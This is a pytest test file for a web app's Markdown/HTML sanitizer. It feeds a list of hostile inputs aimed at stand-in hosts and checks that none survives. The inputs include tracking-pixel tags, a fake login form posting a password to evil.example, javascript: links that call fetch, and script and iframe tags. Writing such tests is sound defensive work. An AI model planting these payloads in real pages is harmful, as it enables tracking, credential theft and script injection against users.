from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from advisor.web.sanitize import (
    ALLOWED_TAGS,
    allowed_href,
    escape_html,
    highlight_html,
    plain_text,
    safe_html,
    sanitize_markdown,
)

TRACKER = "http://tracker.example"
EVIL = "http://evil.example"

# Text a document could hold that would load something from, or link to, an outside host if it
# reached the browser as written. Shared with tests/ui/test_browser_sanitize.py.
PAYLOADS = {
    "backtick-runs": f'``<img src="{TRACKER}/a.png">`',  # the finding: runs of 2 and 1 make no code span
    "backtick-runs-3-2": f'```<img src="{TRACKER}/a2.png">``',
    "escaped-backtick": f'\\`<img src="{TRACKER}/a3.png">`',
    "img": f'<img src="{TRACKER}/b.png">',
    "img-upper": f"<IMG SRC={TRACKER}/c.png>",
    "md-image": f"![pixel]({TRACKER}/d.png)",
    "md-image-title-backtick": f'![pixel]({TRACKER}/d2.png "`") en `code`',
    "ref-image": f"![ref pixel][pix]\n\n[pix]: {TRACKER}/e.png",
    "md-link": f"[link]({EVIL}/f)",
    "ref-link": f"[ref link][evil]\n\n[evil]: {EVIL}/f2",
    "a-href": f'<a href="{EVIL}/g">klik</a>',
    "form": f'<form action="{EVIL}/h"><input type="password" name="pw"><button>Inloggen</button></form>',
    "css-url": f'<div style="background:url({TRACKER}/i.png)">achtergrond</div>',
    "style": f"<style>body{{background:url({TRACKER}/j.png)}}</style>",
    "video": f'<video src="{TRACKER}/k.mp4" autoplay></video>',
    "video-source": f'<video autoplay><source src="{TRACKER}/l.mp4"></video>',
    "srcset": f'<img srcset="{TRACKER}/m.png 1x">',
    "picture": f'<picture><source srcset="{TRACKER}/n.png"><img alt="p"></picture>',
    "svg": f'<svg><image href="{TRACKER}/o.png"/></svg>',
    "iframe": f'<iframe src="{EVIL}/p"></iframe>',
    "javascript": f"[klik](javascript:fetch('{EVIL}/q')) [ook](JaVaScRiPt:alert(1))",
    "autolink": f"<{EVIL}/r>",
    "bare-urls": f"{TRACKER}/s.png en www.evil.example/t",
    "comment": f'<!-- <img src="{TRACKER}/u.png"> -->',
    "entities": f'&lt;img src="{TRACKER}/v.png"&gt; &#60;img src={TRACKER}/w.png&#62;',
    "protocol-relative": "[a](//evil.example/x) [b](/\\evil.example/y)",
    "audio-object-embed": f'<audio src="{TRACKER}/z1.mp3" autoplay></audio><object data="{TRACKER}/z2.swf"></object><embed src="{TRACKER}/z3.swf">',
    "link-meta-base": f'<link rel="stylesheet" href="{TRACKER}/z4.css"><meta http-equiv="refresh" content="0;url={EVIL}/z5"><base href="{EVIL}/">',
    "script": f'<script src="{TRACKER}/z6.js"></script>',
    "input-image": f'<input type="image" src="{TRACKER}/z7.png">',
    "fence-info-backtick": f'``` a`b\n<img src="{TRACKER}/z8.png">\n```',
    "code-then-url": f"```\na\n\nb\n```\n{EVIL}/after-code",
}

# Tags and attributes that load or link to something, whatever their value.
FORBIDDEN_TAGS = {
    "img", "picture", "source", "video", "audio", "iframe", "frame", "object", "embed", "form", "input", "button",
    "style", "link", "meta", "base", "script", "svg", "math", "image", "track",
}
URL_ATTRIBUTES = {"src", "srcset", "href", "action", "formaction", "background", "poster", "data", "style", "xlink:href", "content"}


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text outside <code>/<pre>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.prose: list[str] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.depth += tag in ("code", "pre")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag in ("code", "pre") and self.depth > 0

    def handle_data(self, data: str) -> None:
        if not self.depth:
            self.prose.append(data)


def parsed(html_text: str) -> Tags:
    p = Tags()
    p.feed(html_text)
    p.close()
    return p


def assert_loads_and_links_nothing(html_text: str, href_ok=lambda href: re.fullmatch(r"#[\w-]*", href)) -> None:  # type: ignore[no-untyped-def]
    """No tag that fetches, no attribute pointing outside the page (`href_ok`), no `url(` in any attribute."""
    for tag, attrs in parsed(html_text).tags:
        assert tag not in FORBIDDEN_TAGS, (tag, html_text)
        for name, value in attrs.items():
            assert name == "class" or "url(" not in (value or ""), html_text  # a class is no CSS
            if name in URL_ATTRIBUTES:
                assert tag == "a" and name == "href" and href_ok(value or ""), (tag, name, value, html_text)


BARE_URL = re.compile(r"(?i)(?:https?|ftp|file)://[^\s<>`\"']+|www\.[^\s<>`\"']+")


def assert_no_bare_url(markdown: str) -> None:
    """A GFM viewer (GitHub, marked) links a URL written literally in prose; every URL must be code
    (or have its `:` / `.` escaped, which those viewers do not link)."""
    stack = list(WORST_CASE.parse(markdown))
    while stack:
        t = stack.pop()
        if t.type == "text":
            for m in BARE_URL.finditer(t.content):
                assert m.group(0) not in markdown, (m.group(0), markdown)
        stack.extend(t.children or [])


WORST_CASE = MarkdownIt("commonmark")  # raw HTML on: a viewer of an exported file


def assert_safe_html(out: str) -> None:
    p = parsed(out)
    for tag, attrs in p.tags:
        assert tag in ALLOWED_TAGS | {"div"}, (tag, out)
        for name, value in attrs.items():
            assert (tag, name) in (("a", "href"), ("ol", "start")), (tag, name, out)
            if name == "href":
                assert allowed_href(value), (value, out)
    assert "url(" not in "".join(v or "" for _, a in p.tags for v in a.values())
    # One HTML block for a Markdown renderer that sees it again: no blank line anywhere.
    assert not re.search(r"\n[ \t]*\n", out), out
    assert out == "" or (out.startswith("<div>") and out.endswith("</div>")), out


def test_markdown_image_becomes_its_alt_text() -> None:
    assert sanitize_markdown("Zie ![het logo](http://tracker.example/p.png) hier.") == "Zie het logo hier."
    assert sanitize_markdown('![x](https://a.example/i.png "titel")') == "x"
    assert sanitize_markdown("![]( https://a.example/i.png )") == ""


def test_reference_images_and_their_definitions_disappear() -> None:
    text = "Voor ![logo][1] en ![ander][] na.\n\n[1]: https://tracker.example/p.png\n"
    out = sanitize_markdown(text)
    assert "tracker.example" not in out
    assert "![" not in out
    assert out.startswith("Voor logo en ander na.")


def test_links_keep_their_text_and_lose_their_target() -> None:
    assert sanitize_markdown("Lees [de gids](https://evil.example/x?a=1) eerst.") == "Lees de gids eerst."
    assert sanitize_markdown("[klik](javascript:alert(1))") == "klik"
    assert sanitize_markdown("[relatief](../../etc/passwd)") == "relatief"
    assert sanitize_markdown("[tekst][ref]\n[ref]: http://evil.example") == "tekst\n"


def test_in_page_anchor_links_survive() -> None:
    assert sanitize_markdown("[\\[1\\]](#src-0-1)") == "[\\[1\\]](#src-0-1)"
    assert sanitize_markdown('[x](#a"onclick=alert(1))') == "x"


@pytest.mark.parametrize(
    "raw",
    [
        '<img src="https://evil.example/y.png">',
        "<IMG SRC=https://evil.example/y.png>",
        '<a href="http://evil.example">klik</a>',
        "<script>fetch('https://evil.example')</script>",
        '<iframe src="https://evil.example"></iframe>',
        "<!-- <img src=https://evil.example/x> -->",
        '<svg><image href="https://evil.example/x"/></svg>',
    ],
)
def test_raw_html_is_shown_as_text_never_as_a_tag(raw: str) -> None:
    out = sanitize_markdown(f"Tekst {raw} einde.")
    assert not re.search(r"<[A-Za-z!/]", out)
    assert "&lt;" in out


def test_bare_and_auto_links_become_inert_code() -> None:
    assert sanitize_markdown("Zie https://evil.example/a.") == "Zie `https://evil.example/a`."
    assert sanitize_markdown("Zie <https://evil.example/a> nu") == "Zie `https://evil.example/a` nu"
    assert sanitize_markdown("Op www.evil.example staat het") == "Op `www.evil.example` staat het"


def test_code_is_left_alone_and_plain_text_is_unchanged() -> None:
    text = "Gebruik `![x](http://a.example/i.png)` letterlijk.\n\n```\n<img src=x>\n```\n"
    assert sanitize_markdown(text) == text
    plain = "Vertrouwen groeit [1] wanneer partners afspraken nakomen (zie ook [2]).\n- Punt één\n- Punt *twee*"
    assert sanitize_markdown(plain) == plain


def test_plain_text_and_escape_html_for_html_panels() -> None:
    assert plain_text("a ![b](http://x.example/i.png) [c](http://x.example)") == "a b c"
    assert escape_html('<img src="http://x.example/i.png"> & ![b](http://x.example/i.png)') == (
        "&lt;img src=&quot;http://x.example/i.png&quot;&gt; &amp; b"
    )


def test_highlight_marks_supporting_sentences_inside_escaped_text() -> None:
    text = "Eerste zin <b>vet</b>. Tweede zin over vertrouwen. Derde zin."
    out = highlight_html(text, ["Tweede zin over vertrouwen.", "Niet in de tekst."])
    assert out == "Eerste zin &lt;b&gt;vet&lt;/b&gt;. <mark>Tweede zin over vertrouwen.</mark> Derde zin."


def test_sanitizing_hostile_input_takes_linear_time() -> None:
    import time

    hostile = "[a](" + "x" * 20000 + " ![b](" + "(" * 5000 + "[" * 5000 + "<" * 5000 + "http://" * 2000
    t = time.perf_counter()
    sanitize_markdown(hostile)
    plain_text(hostile)
    assert time.perf_counter() - t < 2.0


# ---------------------------------------------------------------- every payload, both outputs


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_sanitized_markdown_renders_no_tag_image_or_outside_link(name: str) -> None:
    payload = PAYLOADS[name]
    for text in (payload, f"Tekst voor {payload} en na.", f"- punt\n- {payload} [1]\n\n> {payload}"):
        out = sanitize_markdown(text)
        assert_loads_and_links_nothing(WORST_CASE.render(out))
        assert_no_bare_url(out)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_safe_html_keeps_only_the_allow_list(name: str) -> None:
    payload = PAYLOADS[name]
    for text in (payload, f"Tekst voor {payload} en na [\\[1\\]](#src-0-1).", f"- punt\n- {payload} [\\[2\\]](#src-0-2)\n\n> {payload}"):
        out = safe_html(text)
        assert_safe_html(out)
        assert_loads_and_links_nothing(out, href_ok=allowed_href)
        assert "tracker.example/" not in "".join(v or "" for _, a in parsed(out).tags for v in a.values())
        if "[1]" in text:
            assert '<a href="#src-0-1">[1]</a>' in out
        if "[2]" in text:
            assert '<a href="#src-0-2">[2]</a>' in out


def test_the_finding_unequal_backtick_runs_are_not_a_code_span() -> None:
    payload = PAYLOADS["backtick-runs"]
    assert "<img" in WORST_CASE.render(payload)  # CommonMark itself: raw HTML, a tracking pixel
    out = sanitize_markdown(payload)
    assert "<img" not in WORST_CASE.render(out)
    assert "&lt;img" in out
    # Runs of the same length are a code span and stay exactly as written.
    assert sanitize_markdown("a ``<img src=x>`` b") == "a ``<img src=x>`` b"
    assert sanitize_markdown("a `` `<img>` `` b") == "a `` `<img>` `` b"
    # An escaped backtick opens nothing.
    assert "<img" not in WORST_CASE.render(sanitize_markdown("\\`<img src=x>`"))


def test_fences_follow_commonmark() -> None:
    text = "````\n<img src=x>\n```\nstill code\n`````\n<b>na</b>"
    out = sanitize_markdown(text)
    assert out.startswith("````\n<img src=x>\n```\nstill code\n`````\n")  # a longer closing fence closes
    assert out.endswith("&lt;b>na&lt;/b>")
    tilde = "~~~\n<img src=x>\n~~~"
    assert sanitize_markdown(tilde) == tilde
    # An info string with a backtick makes no fence: the lines are prose.
    assert "<img" not in WORST_CASE.render(sanitize_markdown("``` x`y\n<img src=x>\n```"))


def test_text_built_to_confuse_the_rules_falls_back_to_escaped_text() -> None:
    tricky = f'[klik]({EVIL}/a "`") en `code` ![p]({TRACKER}/p.png "`") `x`'
    out = sanitize_markdown(tricky)
    rendered = WORST_CASE.render(out)
    assert_loads_and_links_nothing(rendered)
    assert "klik" in rendered
    assert "evil.example/a" not in rendered.split("klik")[0]
    # Citations stay linkable in the fallback.
    assert "[1]" in sanitize_markdown(f"{tricky} [1]")


SHRAPNEL = [
    "`", "``", "```", "\\", "\n", "\n\n", " ", "<", ">", "!", "[", "]", "(", ")", '"', "'", "*", "_", "~~~", "    ",
    "<img src=http://tracker.example/f.png>", f"]({TRACKER}/g.png)", "[r]: http://tracker.example/h.png", "![a", "[b][r]",
    "<http://evil.example/i>", "www.evil.example", "<!--", "-->", "&lt;", "&#60;", "<a href=http://evil.example>", "</a>",
    "<style>", "url(http://tracker.example/j.png)", "<svg><image href=http://tracker.example/k.png>", "#src-0-1", "[1]",
    "- ", "> ", "1. ", "# ", "<pre>", "</pre>", "<div>", "javascript:", "//evil.example", "<?", "<!X", "<![CDATA[",
]


def test_random_shrapnel_never_renders_a_tag_or_outside_link() -> None:
    rng = random.Random(20260101)
    for _ in range(1500):
        text = "".join(rng.choice(SHRAPNEL) for _ in range(rng.randint(1, 30)))
        md = sanitize_markdown(text)
        assert_loads_and_links_nothing(WORST_CASE.render(md))
        assert_no_bare_url(md)
        out = safe_html(text)
        assert_safe_html(out)
        assert_loads_and_links_nothing(out, href_ok=allowed_href)


def test_safe_html_links_only_in_page_anchors_and_app_routes() -> None:
    out = safe_html("[a](#src-1-2) [b](/doc?x=1) [c](//evil.example) [d](http://evil.example) [e](mailto:x@evil.example) [f](#a\"b)")
    assert '<a href="#src-1-2">a</a>' in out
    assert '<a href="/doc?x=1">b</a>' in out
    assert "evil" not in out
    assert re.search(r"\bc\b", out) and re.search(r"\bd\b", out) and re.search(r"\be\b", out)
    assert out.count("<a ") == 2
    for bad in ("//evil.example", "/\\evil.example", "/\tevil", "http://x", "HTTPS://x", "javascript:alert(1)", "data:text/html,x", "#a b", "", None):
        assert not allowed_href(bad), bad
    for good in ("#src-0-1", "#x", "/", "/doc", "/a/b.c?d=e&f=g#h"):
        assert allowed_href(good), good


def test_safe_html_renders_the_answer_markdown_and_escapes_text() -> None:
    out = safe_html("Intro **vet** en *schuin* `code <b>`:\n\n1. een\n2. twee\n\n- punt [\\[1\\]](#src-0-1)\n\n> citaat\n\n# Titel\n\n_notitie_ & <b>")
    assert out.startswith("<div><p>Intro <strong>vet</strong> en <em>schuin</em> <code>code &lt;b&gt;</code>:</p>")
    assert "<ol>\n<li>een</li>\n<li>twee</li>\n</ol>" in out
    assert '<li>punt <a href="#src-0-1">[1]</a></li>' in out
    assert "<blockquote>\n<p>citaat</p>\n</blockquote>" in out
    assert "<h3>Titel</h3>" in out  # h1 and h2 are demoted: a document's title does not shout
    assert "<p><em>notitie</em> &amp; &lt;b&gt;</p></div>" in out
    assert safe_html("") == safe_html("   \n") == ""


def test_safe_html_is_one_html_block_even_with_code_holding_blank_lines() -> None:
    out = safe_html("```\na\n\n\nb <img>\n```\n\nhttp://evil.example/na\n\n\n\nslot")
    assert "<pre><code>a&#10;&#10;&#10;b &lt;img&gt;&#10;</code></pre>" in out
    assert not re.search(r"\n[ \t]*\n", out)
    # Gradio's Markdown pass (raw HTML on) passes it through as one HTML block: no link, no code added.
    again = WORST_CASE.render(out)
    assert again.strip() == out
    assert_loads_and_links_nothing(again)


def test_safe_html_on_hostile_input_takes_linear_time() -> None:
    import time

    hostile = "[a](" + "x" * 20000 + " ![b](" + "(" * 5000 + "[" * 5000 + "<" * 5000 + "http://" * 2000 + "`" * 3000 + "\n\n" * 3000
    t = time.perf_counter()
    safe_html(hostile)
    sanitize_markdown(hostile)
    assert time.perf_counter() - t < 3.0
